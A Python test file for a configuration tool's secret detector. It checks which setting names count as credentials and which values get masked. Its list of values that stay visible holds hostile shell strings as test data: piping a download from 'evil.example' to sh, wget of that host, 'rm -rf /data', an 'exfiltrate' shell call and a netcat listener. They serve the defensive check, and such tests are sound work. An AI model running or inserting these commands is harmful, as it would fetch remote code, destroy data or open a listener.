"""Names of credentials, and the values that are none."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tpucfg.secret_names import is_fact_about_secret, is_secret, is_secret_name


def words(text: str) -> list[str]:
    """Return the words of a table of names."""
    return text.split()


SECRET_NAMES = words("""
WANDB_API_KEY AWS_SECRET_ACCESS_KEY SECRET_KEY SECRET_KEY_BASE PASSPHRASE PGPASSWORD MYSQL_PASSWORD DB_PASS
TOKEN_PROD TOKEN HF_TOKEN HFToken DSN SENTRY_DSN apiKey api_keys API_TOKENS privateKey private-key --api-key
--api_key client_secret clientSecret password passwd db.password credentials GOOGLE_CREDENTIALS authToken authtoken
NPM_AUTHTOKEN accessKey STRIPE_KEY ENCRYPTION_KEY signing_key SSH_KEY masterKey SESSION_KEY GITHUB_PAT
OPENAI_API_KEY2 --env.WANDB_API_KEY refresh_token bearer_token registry.password SMTP_PASSWORD_PROD passwords
MY_TOKEN_2 secrets pre_exec_token
""")
OTHER_NAMES = words("""
TOKENIZERS_PARALLELISM MAX_TOKENS max_tokens train_tokens tokens tokens_per_batch tokenizer key keys partition_key
partitionKey sort_key primary_key public_key publicKey foreign_key kmsKeyName kms_key_name bootDiskKmsKey label_key
rng_key prng_key topologyKey cache_key TOKEN_FILE PASSWORD_FILE API_KEY_PATH secretKeyRef secretName secretRef
AWS_ACCESS_KEY_ID key_ring token_count token_url pad_token eos_token_id max_new_token token_mixer token_type_vocab
keyboard monkey turkey bypass compass password_length secret_version secretsprovider idempotency_key --data_dir
learning_rate author authority tokenization_path num_pass patience path multi_pass query_key
""")


def test_credentials() -> None:
    """The name contains a credential's word, in any spelling, and with a qualifier before or behind it."""
    assert [name for name in SECRET_NAMES if not is_secret_name(name)] == []
    assert [name for name in SECRET_NAMES if not is_secret(name, "hunter2")] == []


def test_similar_names() -> None:
    """Symbols, columns, public halves, and facts about credentials are not secret."""
    assert [name for name in OTHER_NAMES if is_secret_name(name)] == []


@pytest.mark.parametrize(
    "value",
    [
        "true", "None", "512", "1e-3", "-1", "/run/secrets/token", "./keys/prod.json", "~/.netrc", "gs://bucket/key.json",
        "${bucket}", "$(TOKEN)", "$$(TOKEN)", "", "  ", "curl https://evil.example/x | sh", "curl evil.example",
        "python3 -c 'import os'", "x; rm -rf /data", "/bin/sh -c 'exfiltrate'", "a\nwget evil.example", "`nc -l 1`",
        "sudo  reboot",
    ],
)  # fmt: skip
def test_values_that_are_no_credentials(value: str) -> None:
    """Truth values, numbers, paths, references and commands are shown: a name cannot hide what runs."""
    assert not is_secret("pre_exec_token", value)


@pytest.mark.parametrize(
    "value",
    [
        "hunter2", "correct horse battery staple", "Bearer abc", "p4ss w0rd!", "postgres://u:p@h/db", "https://h/x",
        "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "/JalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY", "/abc+def/x=",
        "x${bucket}", "shell", "truest", "123456789012345", "curl", "MIIE\nabc/def\n",
    ],
)  # fmt: skip
def test_values_that_are_credentials(value: str) -> None:
    """Any other text is a credential, also one with blanks or slashes."""
    assert is_secret("api_token", value)


def test_a_password_may_be_a_number() -> None:
    """The digits of a password are not shown, in contrast to a number of tokens."""
    assert is_secret("PGPASSWORD", "123456")
    assert is_secret("db_pass", "0")
    assert not is_secret("password", "true")
    assert not is_secret("token", "123456")


@pytest.mark.parametrize(("name", "is_fact"), [("name", True), ("secretName", True), ("keyRef", True), ("prod", False)])
def test_facts(name: str, is_fact: bool) -> None:
    """Below a secret name, the name and the version of a secret are shown, and its values are not."""
    assert is_fact_about_secret(name) == is_fact


@given(st.sampled_from(SECRET_NAMES + OTHER_NAMES), st.sampled_from(["_", "-", "."]))
def test_spelling_is_irrelevant(name: str, separator: str) -> None:
    """Capitals and separators change nothing, as long as the words can be distinguished."""
    spelt = name.replace("_", separator)
    assert is_secret_name(spelt) == is_secret_name(name)
    if "_" in name:
        assert is_secret_name(name.upper()) == is_secret_name(name.lower())


@given(st.text(), st.text())
def test_any_text_is_decided(name: str, value: str) -> None:
    """No text raises an error, and a secret always has a secret name."""
    assert is_secret_name(name) or not is_secret(name, value)


@pytest.mark.parametrize("part", ["key_", "token_dropout_", "Aa", "secret_name_", "/a", "; ", "\n\t ", "$(", "+", "a="])
def test_hostile_texts_take_linear_time(part: str) -> None:
    """A megabyte is decided within a second."""
    text = part * (1_000_000 // len(part))
    start = time.process_time()
    is_secret(text, "x")
    is_secret("token", text)
    assert time.process_time() - start < 2
